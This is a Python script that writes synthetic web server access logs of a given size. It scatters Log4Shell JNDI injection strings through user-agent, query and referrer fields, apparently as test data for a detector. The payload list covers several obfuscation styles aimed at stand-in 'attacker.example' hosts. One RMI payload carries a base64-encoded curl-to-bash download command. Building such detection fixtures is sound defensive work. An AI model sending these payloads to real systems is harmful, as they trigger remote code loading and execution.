#!/usr/bin/env python3
"""mklogs.py OUT MB ATTACKS - realistic combined-format access log lines
(query strings with %-encoding and '&', browser user agents, referrers),
MB megabytes of them, with ATTACKS Log4Shell attempts of every
obfuscation family spread through.  Deterministic (seeded)."""
import random, sys

out, mb, n_attacks = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
random.seed(7)
UAS = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Safari/605.1.15',
    'Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    'curl/7.74.0', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'python-requests/2.26.0',
]
PATHS = ['/', '/index.html', '/api/v1/items', '/search', '/static/js/app.3f9a.js', '/static/css/main.css',
         '/images/logo.png', '/login', '/cart/add', '/products/%d', '/blog/2021/12/%s']
WORDS = ['log4j', 'winter sale', 'caf\u00e9', 'size 42', 'blue & white', 'A+B', '100%', 'c++ book', '\u65e5\u672c']
PAYLOADS = [
    '${jndi:ldap://%s/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/a}',
    '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}',
    '${jndi:rmi://%s:1099/Basic/Command/Base64/Y3VybCAtcyB4fGJhc2g=}',
    '%%24%%7Bjndi%%3Aldap%%3A%%2F%%2F%s%%2Fa%%7D',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/a}',
    '${${upper:j}ndi:dns://%s}',
]


def quote(s):
    return ''.join(c if c.isalnum() or c in '-_.' else ('+' if c == ' ' else
                   ''.join('%%%02X' % b for b in c.encode())) for c in s)


def line(t, attack=None):
    ip = '%d.%d.%d.%d' % (random.randint(1, 223), random.randint(0, 255), random.randint(0, 255), random.randint(1, 254))
    p = random.choice(PATHS)
    if '%d' in p:
        p = p % random.randint(1, 99999)
    elif '%s' in p:
        p = p % random.choice(['hello-world', 'winter-notes', 'release'])
    if random.random() < 0.4:
        p += '?q=%s&page=%d&sort=%s' % (quote(random.choice(WORDS)), random.randint(1, 50), random.choice(['asc', 'desc']))
    ua = random.choice(UAS)
    ref = random.choice(['-', 'https://www.example.com/', 'https://www.google.com/search?q=' + quote(random.choice(WORDS))])
    if attack:
        where = random.randint(0, 2)
        if where == 0:
            ua = attack
        elif where == 1:
            p = '/?x=' + attack
        else:
            ref = attack
    ts = '%02d/Dec/2021:%02d:%02d:%02d +0000' % (10 + t // 86400 % 20, t // 3600 % 24, t // 60 % 60, t % 60)
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
        ip, ts, random.choice(['GET', 'GET', 'GET', 'POST']), p, random.choice([200, 200, 304, 404]),
        random.randint(100, 50000), ref, ua)


target = mb << 20
lines = []
size = 0
while size < target:
    l = line(len(lines))
    lines.append(l)
    size += len(l.encode())
step = max(1, len(lines) // max(1, n_attacks))
for k in range(n_attacks):
    i = k * step + random.randint(0, step - 1)
    host = 'c%d.attacker%d.example' % (k, k % 7)
    lines[i] = line(i, random.choice(PAYLOADS) % host)
with open(out, 'w', encoding='utf-8') as f:
    f.writelines(lines)
print(n_attacks)
